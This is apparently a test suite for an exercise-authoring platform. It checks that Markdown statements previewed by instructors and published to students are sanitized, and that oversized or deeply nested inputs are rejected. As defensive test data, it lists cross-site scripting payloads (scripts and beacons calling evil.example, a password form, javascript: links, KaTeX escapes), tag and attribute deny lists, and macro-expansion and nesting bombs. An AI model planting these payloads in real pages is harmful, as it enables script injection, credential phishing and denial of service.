/**
 * A statement that is an attack, where its author previews it and where students read it: nothing of it runs, loads or
 * leaves its place, and what would keep the server waiting is not shown but said.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestDatabase } from '#db/testing.ts';
import type { ActorContext } from '../access/actor.ts';
import { openTestWorld, type TestWorld } from '../testing.ts';
import { viewWorkspace } from '../workspace/view-workspace.ts';
import { startDraftCheck } from './check/draft-checks.ts';
import { previewDraft } from './drafts/preview-draft.ts';
import { publishDraft } from './publish/publish-draft.ts';
import { checkedDraft, newDraft, publishWish, readDraft, saveFile } from './testing.ts';

let world: TestWorld;
let author: ActorContext;
let draftId: string;
beforeAll(async () => {
  world = await openTestWorld(await openTestDatabase());
  author = await world.person('instructor');
  draftId = await newDraft(author, { title: 'A harmless title' });
});
afterAll(() => world?.close());

async function previewed(statement: string): Promise<string> {
  const preview = await previewDraft(author, { draftId, statement, manifest: '' });
  if (!preview.ok) throw new Error(preview.refusal);
  return preview.value.statementHtml;
}

const HARMFUL: Readonly<Record<string, string>> = {
  'a script': '<script>fetch("https://evil.example")</script>',
  'a script in a block of Markdown': '<div>\n\n<script>alert(1)</script>\n\n</div>',
  'an event handler': '<img src=x onerror="alert(1)">',
  'a style': '<style>body { display: none }</style>',
  'a style of an element': '<p style="position:fixed;inset:0">x</p>',
  'a beacon': '![x](https://evil.example/beacon.png)',
  'a beacon of raw HTML': '<img src="https://evil.example/beacon.png">',
  'a beacon by reference': '![x][b]\n\n[b]: //evil.example/beacon.png',
  'a beacon in a figure of no exercise': '![x](figures/../../../api/x.svg)',
  'an svg with a script': '<svg><script>alert(1)</script></svg>',
  'an svg with a handler': '<svg onload="alert(1)"><rect/></svg>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a form': '<form action="https://evil.example"><input name="password"></form>',
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link in disguise':
    '[x](java&#x09;script:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'a vbscript link by reference': '[x][v]\n\n[v]: vbscript:msgbox(1)',
  'a KaTeX link': '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  'a KaTeX picture': '$\\includegraphics{https://evil.example/x.png}$',
  'KaTeX that makes HTML': '$\\htmlStyle{position:fixed}{x}$ $\\htmlId{main}{x}$ $\\htmlData{a=b}{x}$',
  'a name of the page': '<a id="main" name="csrf">x</a>\n\n# main',
  'a language that breaks out': '```"><script>alert(1)</script>\ncode\n```',
};

const TAG = /<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi;
const ATTRIBUTE = /([\w:-]+)(?:="([^"]*)")?/g;

function tagsOf(html: string): { readonly tags: string[]; readonly attributes: [string, string][] } {
  const found = [...html.matchAll(TAG)];
  return {
    tags: found.map(([, name = '']) => name.toLowerCase()),
    attributes: found.flatMap(([, , attributes = '']) =>
      [...attributes.matchAll(ATTRIBUTE)].map(([, name = '', value = '']): [string, string] => [
        name.toLowerCase(),
        value,
      ]),
    ),
  };
}

const HARMFUL_TAGS = ['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'svg'];
const LOADING = ['src', 'srcset', 'poster', 'action', 'background', 'formaction'];

function isHarmful([name, value]: [string, string]): boolean {
  if (name.startsWith('on')) return true;
  if (name === 'href') return /^(?!https?:|#|mailto:)[^/#?]*:/i.test(value);
  if (LOADING.includes(name)) return value !== '' && !value.startsWith('data:image/svg+xml;base64,');
  if (name === 'style') return /position\s*:|url\(/i.test(value);
  return (name === 'id' || name === 'name') && !/^(?:statement|user-content)-/.test(value);
}

function expectHarmless(html: string): void {
  const { tags, attributes } = tagsOf(html);
  expect(tags.filter((tag) => HARMFUL_TAGS.includes(tag))).toEqual([]);
  expect(attributes.filter(isHarmful)).toEqual([]);
}

describe('a harmful statement', () => {
  it.each(Object.entries(HARMFUL))('with %s does nothing in the preview', async (_what, statement) => {
    expectHarmless(await previewed(`before\n\n${statement}\n\nafter`));
  });

  it('does nothing on the page of the published exercise either', async () => {
    const figure = '![a window](figures/window.svg)';
    await saveFile(author, {
      draftId,
      path: 'figures/window.svg',
      content: '<svg xmlns="http://www.w3.org/2000/svg"/>',
    });
    const content = `${Object.values(HARMFUL).join('\n\n')}\n\n${figure}\n`;
    await saveFile(author, { draftId, path: 'statement.md', content });
    const place = { kind: 'module', module: 'sums' } as const;
    const published = await publishDraft(
      author,
      publishWish(draftId, await checkedDraft(author, draftId), { place }),
    );
    expect(published).toMatchObject({ ok: true });
    const student = await world.person('student');
    const page = await viewWorkspace(student, {
      course: 'tiny',
      module: 'sums',
      exercise: 'a-harmless-title',
    });
    if (!page.ok) throw new Error(page.refusal);
    expectHarmless(page.value.statementHtml);
    expect(page.value.statementHtml).toContain('src="data:image/svg+xml;base64,');
  });
});

/** Each near what a file may hold. */
const BOMBS: Readonly<Record<string, readonly [string, RegExp]>> = {
  'quotes in quotes': ['> '.repeat(5_000), /nests more than 40 deep/],
  'lists in lists': [`${'- '.repeat(5_000)}a`, /nests more than 40 deep/],
  'a megabyte of words': ['word '.repeat(200_000), /characters; at most/],
  'a table of a thousand columns': [
    `|${'a|'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n${`|${'b|'.repeat(1_000)}\n`.repeat(25)}`,
    /more than 10000 parts/,
  ],
  'a formula of a book': [`$${'x+'.repeat(2_000)}x$`, /a formula of 4001 characters/],
  'numbered lists in each other': [`${'1. '.repeat(5_000)}a`, /nests more than 40 deep/],
  'lists and quotes in each other': [`${'1) > - '.repeat(2_000)}a`, /nests more than 40 deep/],
  'footnotes in each other': [`${'[^a]: '.repeat(5_000)}a`, /nests more than 40 deep/],
  'a fence of mathematics that is a book': [
    `Fine.\n\n\`\`\`math\n${'x+'.repeat(2_000)}x\n\`\`\`\n`,
    /a formula of 4001 characters/,
  ],
  'fences of mathematics that are a book together': [
    `~~~ math\n${'x+'.repeat(900)}x\n~~~\n\n`.repeat(20),
    /formulas of more than/,
  ],
  'ten thousand formulas': ['$xy$ '.repeat(12_000), /parts|formulas/],
  'formulas of a book together': [`$${'x+'.repeat(900)}x$ `.repeat(20), /formulas of more than/],
};

/** Fewer than a thousand expansions, which is KaTeX's own bound, of so many symbols each. */
function bombOf(symbols: number): string {
  const nine = (name: string, of: string) => `\\def\\${name}{${`\\${of}`.repeat(9)}}`;
  return `$\\def\\a{${'x'.repeat(symbols)}}${nine('b', 'a')}${nine('c', 'b')}${'\\c'.repeat(9)}$`;
}

describe('a statement that is a bomb', () => {
  it.each(Object.entries(BOMBS))(
    'with %s is not shown, and the preview says why',
    async (_what, [statement, why]) => {
      const html = await previewed(statement);
      expect(html).toMatch(/This statement cannot be shown\. It /);
      expect(html).toMatch(why);
      expect(html.length).toBeLessThan(1_000);
    },
  );

  it.each([
    [
      'macros that double',
      '$\\def\\a{xx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c}\\def\\e{\\d\\d\\d\\d}\\def\\f{\\e\\e\\e\\e}\\f\\f\\f$',
    ],
    ['a macro that never ends', '$\\def\\a{\\a\\a}\\a$'],
    ['a long macro that is used a few hundred times', bombOf(1_500)],
    ['the same in a fence', `\`\`\`math\n${bombOf(1_500).slice(1, -1)}\n\`\`\`\n`],
    ['a line under a heading', `A heading\n${'-'.repeat(200)}\n\n${'*'.repeat(200)}\n`],
    ['an example that is nested without end', `\`\`\`example\nscale(${'['.repeat(30_000)}\n\`\`\`\n`],
    ['an example of all the numbers', `\`\`\`example\nscale([${'1, '.repeat(15_000)}1]) → 1\n\`\`\`\n`],
    ['brackets that nobody closes', '['.repeat(10_000)],
    ['braces that nobody closes', `$${'{'.repeat(1_900)}$`],
    ['stars that nobody closes', '*a **a '.repeat(5_000)],
    ['definitions that nobody uses', Array.from({ length: 2_000 }, (_, i) => `[a${i}]: b`).join('\n')],
  ])('%s cost the server little', { timeout: 30_000 }, async (_what, statement) => {
    const html = await previewed(statement);
    expect(html.length).toBeLessThan(400_000);
  });

  it('paints over nothing: what a formula measures is bounded', async () => {
    const html = await previewed('$\\rule{9999em}{9999em}$ $\\kern9999em x$ $\\raisebox{9999em}{x}$');
    const styles = tagsOf(html).attributes.flatMap(([name, value]) => (name === 'style' ? [value] : []));
    const ems = [...styles.join().matchAll(/(-?[\d.]+)em/g)].map(([, em]) => Math.abs(Number(em)));
    expect(ems.length).toBeGreaterThan(3);
    expect(Math.max(...ems)).toBeLessThan(50);
  });

  it('a figure shown a hundred times is not sent a hundred times', async () => {
    const path = 'figures/large.svg';
    await saveFile(author, {
      draftId,
      path,
      content: `<svg xmlns="http://www.w3.org/2000/svg"><!--${'x'.repeat(500_000)}--></svg>`,
    });
    expect(await previewed('![x](figures/large.svg)\n\n'.repeat(100))).toMatch(/shows figures of more than/);
  });

  it('is a problem of statement.md with its line: nobody can check or publish it', async () => {
    await saveFile(author, { draftId, path: 'statement.md', content: `Fine.\n\n${'> '.repeat(100)}a\n` });
    const { problems } = await readDraft(author, draftId);
    expect(problems).toEqual([
      expect.objectContaining({ path: 'statement.md', line: 3, message: expect.stringMatching(/nests/) }),
    ]);
    expect(await startDraftCheck(author, { draftId })).toMatchObject({
      ok: true,
      value: { state: 'broken', publishable: false },
    });
  });
});
